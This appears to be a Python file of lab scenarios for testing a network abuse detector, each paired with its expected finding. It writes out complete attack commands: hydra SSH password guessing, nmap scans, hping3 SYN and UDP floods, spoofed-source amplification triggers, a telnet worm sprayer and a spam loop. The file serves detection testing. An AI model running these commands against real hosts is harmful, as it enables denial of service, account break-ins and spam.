"""The attacks: each is a real tool, bounded in count and time, run by the customer at 198.51.100.10 unless said otherwise."""

from lab import servers
from lab.scenario import Expected, scenario
from lab.topology import Lab, v4

OFFENDER = v4(10)
OPERATOR_A, OPERATOR_B = "203.0.113.10", "192.0.2.10"


def one_customer(lab: Lab) -> None:
    """The stage of most attacks: customer 10, and nobody listening anywhere."""
    lab.customer(10)


def two_ssh_servers(lab: Lab) -> None:
    """An sshd at each of two operators."""
    lab.customer(10)
    servers.sshd(lab, lab.internet, OPERATOR_A, OPERATOR_B, settings="MaxAuthTries 3\nMaxStartups 20\n")
    words = "".join(f"{word}{number}\n" for number in range(40) for word in ("password", "letmein", "summer", "qwerty"))
    lab.file("words.txt", words)


@scenario(
    two_ssh_servers,
    shows="hydra guesses passwords for root on the sshds of two operators, three tries a session, at least sixty sessions to each within two minutes.",
    packages=("hydra", "openssh-server"),
    findings=(Expected("ssh-login-attack", "login_attack", OFFENDER, (22,), 1),),
)
def ssh_login_attack(lab: Lab) -> None:
    """At least sixty sessions to each server."""
    guessing = [
        lab.customers[10].start("hydra", "-I", "-l", "root", "-P", lab.scratch / "words.txt", "-t", 4, "-w", 2, f"ssh://{target}")
        for target in (OPERATOR_A, OPERATOR_B)
    ]
    for process in guessing:
        process.wait(180)


def populated_network(lab: Lab) -> None:
    """203.0.113.0/24 as networks are: a few web consoles, many hosts that refuse, and half of the addresses unused."""
    lab.customer(10)
    lab.silent("203.0.113.64/26", "203.0.113.128/26")
    servers.nginx(lab, lab.internet, *(f"203.0.113.{number}" for number in range(5, 50, 5)), port=8080)


@scenario(
    populated_network,
    shows="nmap looks for one port on 200 addresses of one network: a few answer, many refuse, half are silent.",
    packages=("nmap", "nginx-light"),
    findings=(Expected("address-scan", "address_scan", OFFENDER, (8080,), 100),),
)
def address_scan(lab: Lab) -> None:
    """One port, 200 hosts."""
    lab.customers[10].run("nmap", "-sS", "-Pn", "-n", "-p", 8080, "--max-rate", 40, "203.0.113.1-200")


def one_server(lab: Lab) -> None:
    """A host that serves the web and SSH and refuses all else."""
    lab.customer(10)
    servers.nginx(lab, lab.internet, OPERATOR_A)
    servers.sshd(lab, lab.internet, OPERATOR_A)


def port_scan_finding(protocol_note: str = "") -> tuple[Expected, ...]:
    """The same finding, whatever way the ports were asked."""
    return (Expected("port-scan", "port_scan", OFFENDER, note=protocol_note),)


@scenario(
    one_server,
    shows="nmap tries the thousand most used TCP ports of one host with half-open connections (SYN scan).",
    packages=("nmap", "nginx-light", "openssh-server"),
    findings=port_scan_finding(),
)
def port_scan(lab: Lab) -> None:
    """A thousand ports, one host."""
    lab.customers[10].run("nmap", "-sS", "-Pn", "-n", "--max-rate", 100, OPERATOR_A)


@scenario(
    one_server,
    shows="nmap tries the thousand most used TCP ports of one host with whole connections (connect scan), without being root.",
    packages=("nmap", "nginx-light", "openssh-server"),
    findings=port_scan_finding(),
)
def port_scan_connect(lab: Lab) -> None:
    """As above, through connect(2)."""
    lab.customers[10].run("nmap", "-sT", "-Pn", "-n", "--max-rate", 100, OPERATOR_A)


@scenario(
    one_server,
    shows="nmap tries the sixty most used UDP ports of one host; the host answers some with ICMP port unreachable.",
    packages=("nmap", "nginx-light", "openssh-server"),
    findings=port_scan_finding(),
)
def port_scan_udp(lab: Lab) -> None:
    """Sixty UDP ports, one host."""
    lab.customers[10].run("nmap", "-sU", "-Pn", "-n", "--top-ports", 60, "--max-retries", 1, OPERATOR_A, seconds=100)


def telnet_neighbourhood(lab: Lab) -> None:
    """Most addresses unused, a quarter refusing, and sixteen real telnet servers in 203.0.113.0/24."""
    lab.customer(10)
    lab.silent("198.18.0.0/16", "198.19.0.0/17")
    servers.telnetds(lab, lab.internet, *(f"203.0.113.{number}" for number in range(10, 170, 10)))


@scenario(
    telnet_neighbourhood,
    shows="A Mirai-like sprayer: 80 connections a second to random addresses on ports 23 and 2323, default passwords where one answers.",
    packages=("inetutils-telnetd", "openbsd-inetd"),
    findings=(Expected("telnet-worm", "worm", OFFENDER, (23, 2323), 100),),
    remark="The sprayer is captures/lab/tools/telnet_sprayer.py: real TCP sockets, no malware took part.",
)
def telnet_worm(lab: Lab) -> None:
    """Twenty seconds of spraying, one address in six in the network with real telnet servers."""
    wide = ["198.18.0.0/15"] * 5
    lab.customers[10].run("python3", lab.tools / "telnet_sprayer.py", 80, 20, *wide, "203.0.113.0/24")


def silent_victim(lab: Lab) -> None:
    """A victim that answers no more."""
    lab.customer(10)
    lab.silent(f"{OPERATOR_A}/32")


@scenario(
    silent_victim,
    shows="hping3 sends about 950 SYNs a second from the customer's own address to a web server that no longer answers.",
    packages=("hping3",),
    findings=(Expected("syn-flood", "syn_flood", OFFENDER, (80,)),),
)
def syn_flood(lab: Lab) -> None:
    """Eight thousand SYNs, one victim."""
    lab.customers[10].run("hping3", "-q", "-I", "eth0", "-S", "-p", 80, "-i", "u1000", "-c", 8000, OPERATOR_A, seconds=30)


def web_victim(lab: Lab) -> None:
    """A victim that still answers each SYN."""
    lab.customer(10)
    servers.nginx(lab, lab.internet, OPERATOR_B)


@scenario(
    web_victim,
    shows="hping3 floods a web server that answers every SYN; the customer's kernel resets each half-open connection.",
    packages=("hping3", "nginx-light"),
    findings=(Expected("syn-flood-half-open", "syn_flood", OFFENDER, (80,)),),
)
def syn_flood_answered(lab: Lab) -> None:
    """SYN, SYN-ACK and RST one to one: no ratio of bytes or packets shows this flood."""
    lab.customers[10].run("hping3", "-q", "-I", "eth0", "-S", "-p", 80, "-i", "u2000", "-c", 2500, OPERATOR_B, seconds=30)


@scenario(
    silent_victim,
    shows="hping3 sends about 950 UDP datagrams of 900 bytes a second to one port of one host that does not answer.",
    packages=("hping3",),
    findings=(Expected("udp-flood", "udp_flood", OFFENDER, (7777,)),),
)
def udp_flood(lab: Lab) -> None:
    """Nine thousand datagrams, one victim."""
    lab.customers[10].run("hping3", "-q", "-I", "eth0", "--udp", "-d", 900, "-p", 7777, "-i", "u1000", "-c", 9000, OPERATOR_A, seconds=30)


VICTIM_OF_REFLECTION = "192.0.2.99"


def play_trigger(lab: Lab) -> None:
    """Small requests to four reflector services, each on up to 253 addresses, in the victim's name."""
    for port, size in ((389, 39), (123, 48), (1900, 90), (11211, 15)):
        lab.customers[10].run("hping3", "-q", "--udp", "-a", VICTIM_OF_REFLECTION, "-I", "eth0", "--rand-dest", "-p", port, "-d", size,
                              "-i", "u5000", "-c", 1000, "203.0.113.x", seconds=30)  # fmt: skip


TRIGGER = {
    "shows": "hping3 sends small CLDAP, NTP, SSDP and memcached requests to hundreds of addresses with the source forged to be the victim's.",
    "packages": ("hping3",),
    "findings": (
        Expected(
            "amplification-trigger", "amplification_trigger", VICTIM_OF_REFLECTION, (389, 123, 1900, 11211), 200,
            note="The offender here is the forged source, which is the victim's address and not ours; only the port the packets came "
            "in by tells which customer sent them (BCP 38).",
        ),
    ),
}  # fmt: skip


@scenario(one_customer, **TRIGGER, interface="port10", remark="Recorded on the customer's own port of the edge, where the sender is certain.")
def amplification_trigger(lab: Lab) -> None:
    """Seen at the customer's port."""
    play_trigger(lab)


@scenario(one_customer, **TRIGGER, remark="Recorded on the uplink, where nothing tells which customer sent them.")
def amplification_trigger_uplink(lab: Lab) -> None:
    """Seen at the uplink."""
    play_trigger(lab)


def many_mail_servers(lab: Lab) -> None:
    """Every address of the internet takes mail, except one quarter of 203.0.113.0/24 and eight addresses at each operator, which are gone."""
    lab.customer(10)
    lab.silent("203.0.113.192/26", "203.0.113.24/29", "192.0.2.24/29")
    servers.smtp_sink(lab.internet)


@scenario(
    many_mail_servers,
    shows="swaks delivers one mail each to the servers of sixty networks, one after the other, as a spam run does; fourteen are gone.",
    packages=("swaks", "postfix"),
    findings=(Expected("smtp-spam", "spam", OFFENDER, (25,), 30),),
)
def smtp_spam(lab: Lab) -> None:
    """Sixty servers at two operators."""
    one = "swaks --silent 3 --server $net.$n --helo pc.customer.example --from a@customer.example --to user$n@target.example"
    lab.customers[10].run("sh", "-c", f"for n in $(seq 1 30); do for net in 203.0.113 192.0.2; do {one} --timeout 3; sleep 0.4; done; done")
